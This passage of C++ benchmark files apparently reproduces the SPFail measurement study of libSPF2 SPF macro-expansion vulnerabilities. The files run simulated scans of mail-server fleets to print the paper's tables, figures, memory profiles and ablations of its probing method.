void operator delete[](void* ptr) noexcept { ::operator delete(ptr); }
void operator delete(void* ptr, std::size_t) noexcept { ::operator delete(ptr); }
void operator delete[](void* ptr, std::size_t) noexcept {
  ::operator delete(ptr);
}

// ----------------------------------------------------------------- harness

namespace {

using namespace spfail;

struct PhaseStats {
  std::uint64_t alloc_count = 0;
  std::uint64_t alloc_bytes = 0;
  std::uint64_t peak_bytes = 0;  // high-water of live heap during the phase
  double wall_seconds = 0.0;
};

// Deltas between construction and finish(); peak is re-based at the start so
// each phase reports its own high-water mark, not the process's.
class AllocMeter {
 public:
  AllocMeter()
      : count_(g_alloc_count.load()),
        bytes_(g_alloc_bytes.load()),
        start_(std::chrono::steady_clock::now()) {
    g_peak_bytes.store(g_current_bytes.load());
  }

  PhaseStats finish() const {
    PhaseStats s;
    s.alloc_count = g_alloc_count.load() - count_;
    s.alloc_bytes = g_alloc_bytes.load() - bytes_;
    s.peak_bytes = g_peak_bytes.load();
    s.wall_seconds = std::chrono::duration<double>(
                         std::chrono::steady_clock::now() - start_)
                         .count();
    return s;
  }

 private:
  std::uint64_t count_;
  std::uint64_t bytes_;
  std::chrono::steady_clock::time_point start_;
};

struct LaneResult {
  PhaseStats build;     // fleet construction + target assembly
  PhaseStats campaign;  // the initial measurement itself
  std::size_t hosts = 0;
  std::size_t domains = 0;
  std::size_t conclusive = 0;  // cheap cross-lane equivalence check
  std::uint64_t intern_hits = 0;
  std::uint64_t intern_misses = 0;
  std::uint64_t intern_distinct_bytes = 0;
  std::size_t live_hosts_after = 0;
};

scan::CampaignReport run_campaign(population::Fleet& fleet, bool streaming) {
  scan::CampaignConfig config;
  config.prober.responder = fleet.responder();
  config.threads = 1;
  scan::Campaign campaign(config, fleet.dns(), fleet.clock(), fleet);
  if (streaming) return campaign.run(fleet.target_source());
  return campaign.run(fleet.targets());
}

LaneResult run_lane(double scale, bool lazy) {
  LaneResult result;
  const AllocMeter build_meter;
  population::FleetConfig config;
  config.scale = scale;
  config.lazy_hosts = lazy;
  config.mix = population::PolicyMix::paper_baseline();
  population::Fleet fleet(config);
  std::size_t target_domains = 0;
  if (lazy) {
    // Streaming consumers never copy; walking the view is the whole cost.
    fleet.target_source().for_each(
        [&](std::string_view, std::span<const util::IpAddress>) {
          ++target_domains;
        });
  } else {
    target_domains = fleet.targets().size();  // owning-copy materialisation
  }
  result.build = build_meter.finish();
  result.hosts = fleet.address_count();
  result.domains = target_domains;

  const AllocMeter campaign_meter;
  const scan::CampaignReport report = run_campaign(fleet, lazy);
  result.campaign = campaign_meter.finish();
  for (const auto& [address, outcome] : report.addresses) {
    result.conclusive += outcome.verdict == scan::AddressVerdict::Measured;
  }
  result.intern_hits = fleet.strings().hits();
  result.intern_misses = fleet.strings().misses();
  result.intern_distinct_bytes = fleet.strings().distinct_bytes();
  result.live_hosts_after = fleet.live_hosts();
  return result;
}

// VmHWM (peak resident set) in kilobytes; 0 when /proc is unavailable.
std::uint64_t vm_hwm_kb() {
#if defined(__linux__)
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.rfind("VmHWM:", 0) == 0) {
      return std::strtoull(line.c_str() + 6, nullptr, 10);
    }
  }
#endif
  return 0;
}

double per_host(std::uint64_t bytes, std::size_t hosts) {
  return hosts == 0 ? 0.0 : static_cast<double>(bytes) /
                                static_cast<double>(hosts);
}

// The number the budget pins: whole-run peak live heap over the host count.
// Both phase peaks are absolute high-water marks, so the max covers the run.
std::uint64_t overall_peak(const LaneResult& r) {
  return std::max(r.build.peak_bytes, r.campaign.peak_bytes);
}

void write_json(const std::string& path, double scale, const LaneResult& eager,
                const LaneResult& lazy) {
  std::ofstream out(path, std::ios::trunc);
  if (!out) {
    std::cerr << "warning: cannot write " << path << "\n";
    return;
  }
  const auto lane = [&](const char* name, const LaneResult& r) {
    out << "  \"" << name << "\": {\n"
        << "    \"build_alloc_count\": " << r.build.alloc_count << ",\n"
        << "    \"build_alloc_bytes\": " << r.build.alloc_bytes << ",\n"
        << "    \"build_peak_bytes\": " << r.build.peak_bytes << ",\n"
        << "    \"bytes_per_host\": " << per_host(overall_peak(r), r.hosts)
        << ",\n"
        << "    \"build_wall_seconds\": " << r.build.wall_seconds << ",\n"
        << "    \"campaign_alloc_count\": " << r.campaign.alloc_count << ",\n"
        << "    \"campaign_peak_bytes\": " << r.campaign.peak_bytes << ",\n"
        << "    \"campaign_wall_seconds\": " << r.campaign.wall_seconds
        << ",\n"
        << "    \"live_hosts_after\": " << r.live_hosts_after << ",\n"
        << "    \"conclusive\": " << r.conclusive << "\n"
        << "  }";
  };
  out << "{\n"
      << "  \"scale\": " << scale << ",\n"
      << "  \"hosts\": " << lazy.hosts << ",\n"
      << "  \"domains\": " << lazy.domains << ",\n";
  lane("eager", eager);
  out << ",\n";
  lane("lazy", lazy);
  out << ",\n"
      << "  \"interner\": {\n"
      << "    \"hits\": " << lazy.intern_hits << ",\n"
      << "    \"misses\": " << lazy.intern_misses << ",\n"
      << "    \"distinct_bytes\": " << lazy.intern_distinct_bytes << "\n"
      << "  },\n"
      << "  \"reduction\": {\n"
      << "    \"bytes_per_host\": "
      << per_host(overall_peak(eager), eager.hosts) /
             std::max(1.0, per_host(overall_peak(lazy), lazy.hosts))
      << ",\n"
      << "    \"build_allocations\": "
      << static_cast<double>(eager.build.alloc_count) /
             static_cast<double>(std::max<std::uint64_t>(1,
                                                         lazy.build.alloc_count))
      << "\n  },\n"
      << "  \"vm_hwm_kb\": " << vm_hwm_kb() << "\n"
      << "}\n";
  std::cout << "(json written to " << path << ")\n";
}

}  // namespace

int main(int argc, char** argv) {
  double scale = 0.05;
  std::string out_path = "BENCH_memory.json";
  double budget_bytes_per_host = 0.0;  // 0 = no budget enforcement
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::cerr << "missing value for " << arg << "\n";
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--scale") {
      scale = std::strtod(next(), nullptr);
    } else if (arg == "--out") {
      out_path = next();
    } else if (arg == "--budget") {
      budget_bytes_per_host = std::strtod(next(), nullptr);
    } else {
      std::cerr << "unknown option " << arg
                << " (expected --scale S, --out PATH, --budget BYTES)\n";
      return 2;
    }
  }

  std::cout << "Memory shape: eager string-materialised fleet vs lazy "
               "interned streaming fleet (scale=" << scale << ")\n\n";
  const LaneResult eager = run_lane(scale, /*lazy=*/false);
  const LaneResult lazy = run_lane(scale, /*lazy=*/true);

  if (eager.conclusive != lazy.conclusive ||
      eager.hosts != lazy.hosts) {
    std::cerr << "FAIL: lanes disagree on population or campaign outcome "
                 "(eager "
              << eager.hosts << " hosts/" << eager.conclusive
              << " conclusive, lazy " << lazy.hosts << "/" << lazy.conclusive
              << ")\n";
    return 1;
  }

  util::TextTable table(
      {"Lane", "Build allocs", "Build peak MiB", "Bytes/host",
       "Campaign peak MiB", "Live hosts after", "Wall s"},
      {util::Align::Left, util::Align::Right, util::Align::Right,
       util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Right});
  const auto mib = [](std::uint64_t bytes) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.1f",
                  static_cast<double>(bytes) / (1024.0 * 1024.0));
    return std::string(buf);
  };
  const auto row = [&](const char* name, const LaneResult& r) {
    char bph[32], wall[32];
    std::snprintf(bph, sizeof(bph), "%.0f", per_host(overall_peak(r), r.hosts));
    std::snprintf(wall, sizeof(wall), "%.2f",
                  r.build.wall_seconds + r.campaign.wall_seconds);
    table.add_row({name, std::to_string(r.build.alloc_count),
                   mib(r.build.peak_bytes), bph, mib(r.campaign.peak_bytes),
                   std::to_string(r.live_hosts_after), wall});
  };
  row("eager (pre-interning shape)", eager);
  row("lazy (interned, streaming)", lazy);
  std::cout << table << "\n"
            << "Interner: " << lazy.intern_misses << " distinct strings ("
            << lazy.intern_distinct_bytes << " bytes), " << lazy.intern_hits
            << " repeat lookups answered from the table.\n"
            << "Hosts: " << lazy.hosts << " | peak RSS (VmHWM): "
            << vm_hwm_kb() << " KiB\n\n";

  write_json(out_path, scale, eager, lazy);

  if (budget_bytes_per_host > 0.0) {
    const double got = per_host(overall_peak(lazy), lazy.hosts);
    if (got > budget_bytes_per_host) {
      std::cerr << "FAIL: lazy bytes/host " << got << " exceeds budget "
                << budget_bytes_per_host << "\n";
      return 1;
    }
    std::cout << "memory budget OK: " << got << " <= " << budget_bytes_per_host
              << " bytes/host\n";
  }
  return 0;
}
