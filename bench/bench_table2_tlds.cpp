// Table 2 — most common TLDs per domain set.
#include "bench_common.hpp"

#include "population/tld.hpp"

namespace {

void BM_TldLookup(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(spfail::population::find_tld("com"));
    benchmark::DoNotOptimize(spfail::population::find_tld("za"));
    benchmark::DoNotOptimize(spfail::population::find_tld("nope"));
  }
}
BENCHMARK(BM_TldLookup);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header("Table 2: Most common TLDs per domain set",
                              "SPFail, section 5.2", session);
  std::cout << spfail::report::table2_tlds(session.fleet()) << "\n"
            << "Paper (full scale) leaders: Alexa — com 230,801; ru 19,844; "
               "ir 17,207; net 16,672; org 14,427.\n"
               "2-Week MX — com 11,182; org 3,946; edu 2,108; net 1,441; "
               "us 828.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
