// Ablation: the NoMsg-first test order (§5.1/§6.2).
//
// The paper probes with NoMsg first and falls back to BlankMsg only when no
// SPF activity was elicited. The alternative — BlankMsg for everyone — would
// measure slightly more hosts in one pass but transmits an (empty) message to
// every host that accepts one. This bench quantifies both sides: conclusive
// coverage and the number of messages actually accepted for delivery.
#include "bench_common.hpp"

#include "scan/prober.hpp"

namespace {

using namespace spfail;

struct AblationResult {
  std::size_t probed = 0;
  std::size_t measured = 0;
  std::size_t messages_accepted = 0;  // blank messages a host queued
  std::size_t smtp_transactions = 0;
};

AblationResult run_order(population::Fleet& fleet, bool nomsg_first) {
  AblationResult result;
  scan::ProberConfig config;
  config.responder = fleet.responder();
  net::Transport transport(fleet.clock());
  scan::Prober prober(config, fleet.dns(), transport);
  scan::LabelAllocator labels(util::Rng(99), fleet.responder().base);
  const std::string suite = labels.new_suite();

  std::set<util::IpAddress> seen;
  for (const auto& domain : fleet.domains()) {
    const std::string recipient(domain.name);
    for (const auto& address : domain.addresses) {
      if (!seen.insert(address).second) continue;
      mta::MailHost* host = fleet.find_host(address);
      if (host == nullptr) continue;
      ++result.probed;

      bool measured = false;
      if (nomsg_first) {
        const auto nomsg = prober.probe(
            *host, recipient, labels.mail_from_domain(labels.new_id(), suite),
            scan::TestKind::NoMsg);
        ++result.smtp_transactions;
        measured = nomsg.status == scan::ProbeStatus::SpfMeasured;
        if (!measured && nomsg.status == scan::ProbeStatus::SpfNotMeasured) {
          const auto blank = prober.probe(
              *host, recipient,
              labels.mail_from_domain(labels.new_id(), suite),
              scan::TestKind::BlankMsg);
          ++result.smtp_transactions;
          measured = blank.status == scan::ProbeStatus::SpfMeasured;
          result.messages_accepted += blank.failing_code == 0 &&
                                      blank.status !=
                                          scan::ProbeStatus::ConnectionRefused;
        }
      } else {
        const auto blank = prober.probe(
            *host, recipient, labels.mail_from_domain(labels.new_id(), suite),
            scan::TestKind::BlankMsg);
        ++result.smtp_transactions;
        measured = blank.status == scan::ProbeStatus::SpfMeasured;
        result.messages_accepted +=
            blank.failing_code == 0 &&
            blank.status != scan::ProbeStatus::ConnectionRefused &&
            blank.status != scan::ProbeStatus::SmtpFailure;
      }
      result.measured += measured;
    }
  }
  return result;
}

void BM_NoMsgFirstOrder(benchmark::State& state) {
  for (auto _ : state) {
    population::FleetConfig config;
    config.scale = 0.003;
    population::Fleet fleet(config);
    benchmark::DoNotOptimize(run_order(fleet, true));
  }
}
BENCHMARK(BM_NoMsgFirstOrder)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session(0.05);
  spfail::bench::print_header(
      "Ablation: NoMsg-first vs BlankMsg-only test ordering",
      "SPFail, sections 5.1 and 6.2 — why the paper probes NoMsg first",
      session);

  population::FleetConfig config_a, config_b;
  config_a.scale = config_b.scale = session.scale();
  population::Fleet fleet_a(config_a), fleet_b(config_b);
  const AblationResult nomsg_first = run_order(fleet_a, true);
  const AblationResult blank_only = run_order(fleet_b, false);

  util::TextTable table({"Strategy", "Hosts probed", "SPF measured",
                         "Blank messages accepted", "SMTP transactions"},
                        {util::Align::Left, util::Align::Right,
                         util::Align::Right, util::Align::Right,
                         util::Align::Right});
  const auto row = [&](const char* name, const AblationResult& r) {
    table.add_row({name, std::to_string(r.probed), std::to_string(r.measured),
                   std::to_string(r.messages_accepted),
                   std::to_string(r.smtp_transactions)});
  };
  row("NoMsg first, BlankMsg fallback", nomsg_first);
  row("BlankMsg only", blank_only);
  std::cout << table << "\n"
            << "Reading: both orders measure essentially the same host set, "
               "but BlankMsg-only transmits an accepted (if empty) message to "
               "every host that takes mail — the NoMsg-first order confines "
               "that to hosts that would otherwise stay unmeasured.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
