// Shared scaffolding for the reproduction bench binaries.
//
// Every binary does two things:
//   1. print the reproduced table/figure (the experiment's deliverable),
//   2. run a few google-benchmark microbenchmarks over the code paths the
//      experiment exercises.
// `SPFAIL_SCALE` (0 < s <= 1, default 0.1) scales the simulated population;
// counts scale with it, percentages and trends do not.
#pragma once

#include <benchmark/benchmark.h>

#include <fstream>
#include <iostream>

#include "report/session.hpp"
#include "report/tables.hpp"

namespace spfail::bench {

// When the session's csv_dir is set (SPFAIL_CSV_DIR), also write the
// reproduced table as CSV there (named <slug>.csv) for external plotting.
inline void maybe_export_csv(report::ReproSession& session, const char* slug,
                             const util::TextTable& table) {
  const std::string& dir = session.config().csv_dir;
  if (dir.empty()) return;
  const std::string path = dir + "/" + slug + ".csv";
  std::ofstream out(path);
  if (!out) {
    std::cerr << "warning: cannot write " << path << "\n";
    return;
  }
  table.to_csv(out);
  std::cout << "(csv written to " << path << ")\n";
}

inline void print_header(const char* title, const char* paper_reference,
                         report::ReproSession& session) {
  std::cout << "==============================================================="
               "=\n"
            << title << "\n(" << paper_reference << ")\n"
            << session.banner() << "\n"
            << "==============================================================="
               "=\n";
}

inline int run_benchmarks(int argc, char** argv) {
  ::benchmark::Initialize(&argc, argv);
  if (::benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  ::benchmark::RunSpecifiedBenchmarks();
  ::benchmark::Shutdown();
  return 0;
}

}  // namespace spfail::bench
