// Figure 4 — vulnerable/patched domains across 20 rank buckets.
#include "bench_common.hpp"

namespace {

void BM_DomainCountsAt(benchmark::State& state) {
  static spfail::report::ReproSession session(0.02);
  const auto& study = session.study();
  for (auto _ : state) {
    benchmark::DoNotOptimize(spfail::longitudinal::Study::domain_counts_at(
        study, session.fleet(), study.round_times.size() - 1,
        spfail::longitudinal::Cohort::All));
  }
}
BENCHMARK(BM_DomainCountsAt)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 4: Vulnerable and patched domains by site ranking (20 buckets)",
      "SPFail, section 7.4", session);
  std::cout << "--- (a) Alexa Top List, by Alexa rank ---\n"
            << spfail::report::fig4_rank_buckets(
                   session.fleet(), session.study(),
                   spfail::longitudinal::Cohort::AlexaTopList)
            << "\n--- (b) 2-Week MX, by MX-query count ---\n"
            << spfail::report::fig4_rank_buckets(
                   session.fleet(), session.study(),
                   spfail::longitudinal::Cohort::TwoWeekMx)
            << "\n"
            << "Paper: the bottom 20K Alexa domains held nearly twice as many "
               "vulnerable servers as the top 20K; higher-ranked domains "
               "patched slightly more, but no rank group exceeded a 40% patch "
               "rate.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
