// Figure 6 — vulnerability rates per domain list, first measurement window.
#include "bench_common.hpp"

#include "longitudinal/notification.hpp"

namespace {

void BM_NotificationCampaign(benchmark::State& state) {
  using namespace spfail;
  for (auto _ : state) {
    longitudinal::NotificationCampaign campaign;
    for (int i = 0; i < 500; ++i) {
      campaign.add_domain(
          "d" + std::to_string(i),
          {util::IpAddress::v4(10, 1, static_cast<std::uint8_t>(i >> 8),
                               static_cast<std::uint8_t>(i))});
    }
    campaign.send();
    benchmark::DoNotOptimize(campaign.stats());
  }
}
BENCHMARK(BM_NotificationCampaign)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 6: libSPF2 vulnerability rates per domain list, first "
      "measurement window (Oct 26 - Nov 30, 2021)",
      "SPFail, section 7.6", session);
  const auto table = spfail::report::fig67_vulnerability_series(
      session.fleet(), session.study(), /*window1_only=*/true);
  spfail::bench::maybe_export_csv(session, "fig6_window1", table);
  std::cout << table
            << "\n"
            << "Paper: during window 1 about 10% of the 2-Week MX domains and "
               "4% of the Alexa Top List domains started validating safely — "
               "mostly before the private notification (proactive package "
               "monitoring), which itself was minimally effective.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
