// Ablation: the §7.6 inference rules.
//
// How much of the longitudinal picture do the two monotonicity rules
// recover? Compare, per round, the domains with direct conclusive
// measurements against the domains whose status is known once inference
// back/forward-fills the gaps.
#include "bench_common.hpp"

namespace {

void BM_InferVsRaw(benchmark::State& state) {
  using namespace spfail::longitudinal;
  Series series(34, Observation::Inconclusive);
  series[5] = Observation::Vulnerable;
  series[30] = Observation::Compliant;
  for (auto _ : state) {
    benchmark::DoNotOptimize(infer(series));
  }
}
BENCHMARK(BM_InferVsRaw);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Ablation: measurement coverage with and without the section 7.6 "
      "inference rules",
      "SPFail, section 7.6 — Figure 5's measured vs inferred bands", session);

  using spfail::util::TextTable;
  const auto& study = session.study();
  TextTable table(
      {"Date", "Measured only", "With inference", "Recovered", "Total"},
      {spfail::util::Align::Left, spfail::util::Align::Right,
       spfail::util::Align::Right, spfail::util::Align::Right,
       spfail::util::Align::Right});
  // Quartile rounds keep the table readable; the fig5 bench prints them all.
  const std::size_t n = study.round_times.size();
  for (const std::size_t round :
       {std::size_t{0}, n / 4, n / 2, 3 * n / 4, n - 1}) {
    const auto counts = spfail::longitudinal::Study::domain_counts_at(
        study, session.fleet(), round, spfail::longitudinal::Cohort::All);
    table.add_row({spfail::util::format_date(study.round_times[round]),
                   std::to_string(counts.measured),
                   std::to_string(counts.inferable),
                   std::to_string(counts.inferable - counts.measured),
                   std::to_string(counts.total)});
  }
  std::cout << table << "\n"
            << "Reading: without the rules, every transiently failed or "
               "blacklisted host would drop out of the denominator the round "
               "it fails; the rules recover the growing 'Recovered' band — "
               "exactly Figure 5's gap between successful and inferred "
               "measurements.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
