// §7.7 — the private-notification funnel.
#include "bench_common.hpp"

#include "longitudinal/notification.hpp"

namespace {

void BM_GroupingByInfrastructure(benchmark::State& state) {
  using namespace spfail;
  for (auto _ : state) {
    longitudinal::NotificationCampaign campaign;
    // Many domains over few shared addresses — the dedup path.
    for (int i = 0; i < 2000; ++i) {
      campaign.add_domain(
          "d" + std::to_string(i),
          {util::IpAddress::v4(10, 2, 0, static_cast<std::uint8_t>(i % 100))});
    }
    benchmark::DoNotOptimize(campaign.groups().size());
  }
}
BENCHMARK(BM_GroupingByInfrastructure)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Section 7.7: Response to private notification (funnel)",
      "SPFail, section 7.7", session);
  std::cout << spfail::report::notification_funnel(session.study()) << "\n"
            << "Paper: 6,488 sent; 2,054 (31.6%) undelivered; 512 (12%) of "
               "delivered were opened; 177 openers eventually patched; only "
               "9 patched between private and public disclosure; 37 "
               "unnotified domains patched in that span (package updates).\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
