// Figure 3 — geographic distribution of vulnerable and patched addresses.
#include "bench_common.hpp"

#include "population/geo.hpp"

namespace {

void BM_GeoAssign(benchmark::State& state) {
  spfail::population::GeoDb geo{spfail::util::Rng(7)};
  std::uint32_t i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        geo.assign(spfail::util::IpAddress::v4(0x0A000000 + i++), "com"));
  }
}
BENCHMARK(BM_GeoAssign);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 3: Geographic distribution of vulnerable (a) and patched (b) "
      "IP addresses, aggregated into regional buckets",
      "SPFail, section 7.3", session);
  std::cout << spfail::report::fig3_geography(session.fleet(), session.study())
            << "\n"
            << "Paper: vulnerable servers across all populous regions with a "
               "higher concentration in Europe; high patch rates in South "
               "Africa and pockets of Europe; almost none in China/Taiwan, "
               "Russia, and Central/South America.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
