// Figure 5 — conclusive and inferred vulnerability results over time.
#include "bench_common.hpp"

namespace {

void BM_InferenceTableCounts(benchmark::State& state) {
  using namespace spfail::longitudinal;
  InferenceTable table;
  for (int a = 0; a < 200; ++a) {
    Series series(34, Observation::Inconclusive);
    series[a % 34] = Observation::Vulnerable;
    if (a % 3 == 0) series[33] = Observation::Compliant;
    table.set_series(
        spfail::util::IpAddress::v4(10, 0, static_cast<std::uint8_t>(a >> 8),
                                    static_cast<std::uint8_t>(a)),
        series);
  }
  for (auto _ : state) {
    for (std::size_t round = 0; round < 34; ++round) {
      benchmark::DoNotOptimize(table.counts_at(round));
    }
  }
}
BENCHMARK(BM_InferenceTableCounts)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Figure 5: Conclusive vulnerability results over time (all initially "
      "vulnerable domains)",
      "SPFail, section 7.6", session);
  const auto table = spfail::report::fig5_conclusive_series(
      session.fleet(), session.study(), spfail::longitudinal::Cohort::All);
  spfail::bench::maybe_export_csv(session, "fig5_conclusive", table);
  const auto& study = session.study();
  std::cout << table << "\n"
            << "Re-measurable inconclusive cohort (section 6.1): "
            << study.remeasurable_addresses << " addresses; resolved "
            << study.remeasurable_resolved_vulnerable << " vulnerable / "
            << study.remeasurable_resolved_compliant
            << " compliant during the rounds.\n"
            << "Paper: 18,660 domains on 7,212 addresses at the start; "
               "successful measurements fluctuated early and stabilised in "
               "late November; gaps between measured and inferable reflect "
               "hosts lost to scanner blacklisting.\n\n";
  if (study.degradation.configured_rate > 0.0) {
    // SPFAIL_FAULT_RATE was set: show how the apparatus degraded. The
    // conclusive-rate row is this figure's fault-injected counterpart.
    std::cout << spfail::report::degradation_table(study.degradation) << "\n";
  }
  return spfail::bench::run_benchmarks(argc, argv);
}
