// Ablation: per-test unique labels (§5.1).
//
// The paper inserts a unique <id>.<suite> label pair into every MAIL FROM
// domain so that no resolver cache can absorb the measurement's DNS queries.
// This bench probes the same MTA repeatedly with unique labels vs a single
// reused label and counts the queries that actually reach the authoritative
// server — the reused label's TXT fetch is cached away after the first probe,
// silently blinding the measurement.
#include "bench_common.hpp"

#include "dns/forwarder.hpp"
#include "scan/prober.hpp"

namespace {

using namespace spfail;

// Probe `hosts` MTAs (`probes` times each) that all resolve through one
// shared caching forwarder — the site-resolver topology §5.1 defends
// against. Returns how many queries actually reached the authority.
std::size_t authoritative_queries(bool unique_labels, int hosts, int probes) {
  dns::AuthoritativeServer authority;
  util::SimClock clock;
  const auto responder = scan::install_test_responder(authority);
  dns::CachingForwarder site_resolver(authority, clock);

  std::vector<std::unique_ptr<mta::MailHost>> fleet;
  for (int h = 0; h < hosts; ++h) {
    mta::HostProfile profile;
    profile.address =
        util::IpAddress::v4(203, 0, 113, static_cast<std::uint8_t>(50 + h));
    profile.behaviors = {spfvuln::SpfBehavior::VulnerableLibspf2};
    fleet.push_back(
        std::make_unique<mta::MailHost>(profile, site_resolver, clock));
  }

  scan::ProberConfig config;
  config.responder = responder;
  net::Transport transport(clock);
  scan::Prober prober(config, authority, transport);
  scan::LabelAllocator labels(util::Rng(3), responder.base);
  const std::string suite = labels.new_suite();
  const dns::Name fixed = labels.mail_from_domain(labels.new_id(), suite);

  for (int i = 0; i < probes; ++i) {
    for (auto& host : fleet) {
      const dns::Name mail_from =
          unique_labels ? labels.mail_from_domain(labels.new_id(), suite)
                        : fixed;
      prober.probe(*host, "target.example", mail_from, scan::TestKind::NoMsg);
    }
  }
  return authority.query_log().size();
}

void BM_UniqueLabelProbes(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(authoritative_queries(true, 1, 5));
  }
}
BENCHMARK(BM_UniqueLabelProbes)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session(0.01);
  spfail::bench::print_header(
      "Ablation: unique per-test labels vs a reused MAIL FROM domain "
      "(10 MTAs behind one shared site resolver, probed 10 times each)",
      "SPFail, section 5.1 — cache-busting labels", session);

  constexpr int kHosts = 10;
  constexpr int kProbes = 10;
  const std::size_t with_unique = authoritative_queries(true, kHosts, kProbes);
  const std::size_t with_reuse = authoritative_queries(false, kHosts, kProbes);

  util::TextTable table({"Strategy", "Total probes",
                         "Authoritative queries seen", "Queries per probe"},
                        {util::Align::Left, util::Align::Right,
                         util::Align::Right, util::Align::Right});
  const int total = kHosts * kProbes;
  table.add_row({"Unique <id> per probe", std::to_string(total),
                 std::to_string(with_unique),
                 std::to_string(with_unique / total)});
  table.add_row({"Reused MAIL FROM domain", std::to_string(total),
                 std::to_string(with_reuse),
                 std::to_string(with_reuse / total)});
  std::cout << table << "\n"
            << "Reading: with a reused domain, the shared caching resolver "
               "answers everything after the very first probe — across ALL "
               "ten hosts — and the authoritative server (the measurement "
               "instrument) goes blind: per-host verdicts become impossible "
               "and longitudinal re-measurement sees nothing. The unique "
               "<id>.<suite> labels guarantee every lookup reaches the "
               "authority.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
