// Table 7 — SPF macro-expansion behaviour census by IP address.
#include "bench_common.hpp"

#include "spfvuln/fingerprint.hpp"

namespace {

void BM_FingerprintClassify(benchmark::State& state) {
  using namespace spfail;
  const dns::Name domain =
      dns::Name::from_string("ab1cd.t0.spf-test.dns-lab.org");
  const spfvuln::FingerprintClassifier classifier(domain);
  const dns::Name vulnerable_query =
      classifier.expected_query(spfvuln::SpfBehavior::VulnerableLibspf2);
  for (auto _ : state) {
    benchmark::DoNotOptimize(classifier.classify(vulnerable_query));
  }
}
BENCHMARK(BM_FingerprintClassify);

void BM_ClassifierConstruction(benchmark::State& state) {
  using namespace spfail;
  const dns::Name domain =
      dns::Name::from_string("ab1cd.t0.spf-test.dns-lab.org");
  for (auto _ : state) {
    spfvuln::FingerprintClassifier classifier(domain);
    benchmark::DoNotOptimize(&classifier);
  }
}
BENCHMARK(BM_ClassifierConstruction)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header(
      "Table 7: Behaviours in SPF macro expansion by IP address",
      "SPFail, section 7.9", session);
  std::cout << spfail::report::table7_behaviors(session.fleet(),
                                                session.initial())
            << "\n"
            << "Paper: ~1 in 6 measured addresses vulnerable; ~6% erroneous "
               "but not vulnerable (failure to expand being the most common "
               "error); 2,615 servers (6% of measurable) showed two or more "
               "distinct expansion patterns.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
