// Table 4 — initial SPF results breakdown.
#include "bench_common.hpp"

#include "scan/test_responder.hpp"
#include "spf/eval.hpp"
#include "spfvuln/behavior.hpp"

namespace {

// The cost of one check_host() evaluation per engine type — the work every
// measured MTA performs per probe.
void BM_CheckHost(benchmark::State& state) {
  using namespace spfail;
  const auto behavior = static_cast<spfvuln::SpfBehavior>(state.range(0));
  dns::AuthoritativeServer server;
  util::SimClock clock;
  scan::install_test_responder(server);
  dns::StubResolver resolver(server, clock, util::IpAddress::v4(10, 0, 0, 1),
                             /*enable_cache=*/false);
  const auto expander = spfvuln::make_expander(behavior);
  spf::Evaluator evaluator(resolver, *expander);
  spf::CheckRequest request;
  request.client_ip = util::IpAddress::v4(198, 51, 100, 9);
  request.sender_local = "probe";
  request.sender_domain =
      dns::Name::from_string("ab1cd.t0.spf-test.dns-lab.org");
  for (auto _ : state) {
    benchmark::DoNotOptimize(evaluator.check_host(request));
  }
}
BENCHMARK(BM_CheckHost)
    ->Arg(static_cast<int>(spfail::spfvuln::SpfBehavior::RfcCompliant))
    ->Arg(static_cast<int>(spfail::spfvuln::SpfBehavior::VulnerableLibspf2))
    ->Arg(static_cast<int>(spfail::spfvuln::SpfBehavior::NoExpansion))
    ->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header("Table 4: SPF initial results breakdown",
                              "SPFail, section 7.1", session);
  std::cout << spfail::report::table4_breakdown(session.fleet(),
                                                session.initial())
            << "\n"
            << "Paper: ~1 in 6 measured addresses vulnerable on the Alexa "
               "list (1 in 10 for 2-Week MX); close to a quarter expanded "
               "macros incorrectly overall (1 in 6 for 2-Week MX); 7,212 "
               "vulnerable addresses across both sets.\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
