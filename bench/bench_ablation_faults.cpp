// Ablation: graceful degradation under injected transient faults.
//
// The paper's scan ran against the real Internet, where tempfails, dropped
// connections and flaky DNS are routine; §6.1 separates conclusive from
// inconclusive results for exactly that reason. This bench sweeps the
// deterministic fault-injection layer's per-attempt fault probability from
